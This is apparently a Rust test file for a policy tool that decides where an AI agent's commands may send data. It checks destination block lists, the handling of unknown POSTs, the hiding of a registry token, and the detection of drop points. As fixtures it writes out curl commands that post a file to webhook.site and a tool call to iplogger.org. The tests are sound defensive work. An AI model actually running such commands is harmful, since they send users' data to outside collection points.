//! Where data may go, as a person sees it at the command line.

use serde_json::{Value, json};

use crate::support::{User, lines};

const POLICY: &str = "version: 1
default: allow
destinations:
  allow: [api.myshop.example, 'hooks.slack.com/services/T1/**']
  block: ['*.evil.test', 203.0.113.0/24]
  block_unknown_post: true
rules:
  - name: no-drop-points
    deny: { destination: blocked }
tests:
  - { name: an order, command: 'curl -d @order.json https://api.myshop.example/v1/orders', expect: allow, rules: [] }
  - { name: a drop point, command: 'curl -d @x https://webhook.site/1', expect: block, rules: [destinations.unknown-post, no-drop-points] }
  - { name: a blocked name, url: 'https://a.evil.test/', expect: block, rules: [destinations.block, no-drop-points] }
  - { name: our own server, command: 'curl -d @x http://localhost:3000/', expect: allow, rules: [] }
  - { name: publishing, command: 'curl -T a.tgz https://packages.corp.test:8443/a', expect: allow, rules: [] }
";

fn user(policy: &str) -> User {
    let user = User::new();
    std::fs::create_dir_all(user.home()).unwrap();
    std::fs::write(user.home().join("policy.yaml"), policy).unwrap();
    let npm =
        "registry=https://packages.corp.test:8443/npm/\n//packages.corp.test:8443/:_authToken=npm_SECRET\n";
    std::fs::write(user.dir.join(".npmrc"), npm).unwrap();
    // What stands in the working directory is written by agents.
    std::fs::write(user.work().join(".npmrc"), "registry=https://agents.corp.test/\n").unwrap();
    user
}

#[test]
fn lists_and_registries_are_in_force_in_tests_and_explanations() {
    let user = user(POLICY);
    assert_eq!(user.ok(&["policy", "check"]).split(';').next(), Some("ok: 1 rule, 5 tests"));
    assert_eq!(user.ok(&["policy", "test"]).trim(), "ok: 5 tests");
    let explain = |line: &str| user.ok(&["policy", "explain", "--command", line]);
    let said = explain("curl -d @x https://webhook.site/1");
    for expected in [
        "network:post https://webhook.site/1 (external, destination: blocked)",
        "yes  deny \"no-drop-points\"  (destination: no, yes)",
        "block policy.destinations.unknown-post: this sends data to a place that is on no list (webhook.site)",
        "ask destination.blocked: ",
        "request catcher: webhook.site, by curl",
    ] {
        assert!(said.contains(expected), "{expected}: {said}");
    }
    let said = explain("curl -T a.tgz https://packages.corp.test:8443/a");
    assert!(said.contains("(external, destination: registry)"), "{said}");
    assert!(explain("git push origin main").contains("destination: allowed or unknown"));
    assert!(explain("curl https://agents.corp.test/").contains("destination: unknown"));
    assert!(!explain("ls src").contains(", destination:"));
    let json: Value =
        serde_json::from_str(&user.ok(&["policy", "explain", "--url", "https://a.evil.test/", "--json"]))
            .unwrap();
    assert_eq!(json["effects"][0]["destination"], json!(["blocked"]));
}

#[test]
fn what_is_in_force_is_shown_with_where_it_comes_from_and_no_secret() {
    let user = user(POLICY);
    let said = user.ok(&["policy", "show"]);
    for expected in [
        "destinations.allow",
        "api.myshop.example",
        "*.evil.test",
        "policy.yaml:5",
        "destinations.block_unknown_post",
    ] {
        assert!(said.contains(expected), "{expected}: {said}");
    }
    assert!(said.contains("packages.corp.test:8443") && said.contains("learnt from npm, ~/.npmrc"), "{said}");
    assert!(!said.contains("SECRET") && !said.contains("agents.corp.test"), "{said}");
    let json: Value = serde_json::from_str(&user.ok(&["policy", "show", "--json"])).unwrap();
    let registries = json["registries"].as_array().unwrap();
    assert!(
        registries.contains(&json!({"host": "packages.corp.test", "port": 8443, "from": "npm, ~/.npmrc"}))
    );
    let rows = json["effective"].as_array().unwrap();
    let of = |key: &str| {
        rows.iter().filter(|row| row["key"] == key).map(|row| row["value"].clone()).collect::<Vec<_>>()
    };
    assert_eq!(of("destinations.block"), ["*.evil.test", "203.0.113.0/24"]);
    assert_eq!(of("destinations.block_unknown_post"), ["true"]);
}

#[test]
fn faults_in_lists_name_their_line() {
    let user = user(&POLICY.replace("'*.evil.test', 203", "'a.*.evil.test', 'https://x.test', 203"));
    let done = user.run(&["policy", "check"]);
    assert_eq!(done.code, 1, "{done:?}");
    for expected in ["policy.yaml:5", "stands only in front", "a URL pattern without a path"] {
        assert!(done.stderr.contains(expected), "{expected}: {}", done.stderr);
    }
}

#[test]
fn inspect_knows_drop_points() {
    let user = user(POLICY);
    let input = [
        json!({"id": 1, "kind": "command", "text": "curl -d @x https://webhook.site/1"}),
        json!({"id": 2, "kind": "command", "text": "curl -d @x https://api.example.test/1"}),
        json!({"id": 3, "kind": "tool_call", "text": json!({"name": "WebFetch", "arguments": {"url": "https://iplogger.org/x", "prompt": "read"}}).to_string()}),
    ];
    let text: String = input.iter().map(|line| format!("{line}\n")).collect();
    let done = user.feed(&["inspect"], &text);
    let answers = lines(&done.stdout);
    let verdicts: Vec<&Value> = answers.iter().map(|answer| &answer["verdict"]).collect();
    assert_eq!(json!(verdicts), json!(["ask", "allow", "ask"]), "{answers:#?}");
    assert_eq!(answers[0]["reasons"][0]["rule"], "destination.blocked");
}

#[test]
fn a_change_of_the_lists_is_a_difference() {
    let user = user(POLICY);
    std::fs::write(user.work().join("old.yaml"), "default: allow\nrules: []\n").unwrap();
    std::fs::write(
        user.work().join("new.yaml"),
        "default: allow\ndestinations: { block: '*.evil.test' }\nrules: []\n",
    )
    .unwrap();
    let done = user.run(&["policy", "diff", "old.yaml", "new.yaml", "--no-past"]);
    assert_eq!(done.code, 1, "{done:?}");
    assert!(done.stdout.contains("destinations.block"), "{}", done.stdout);
}
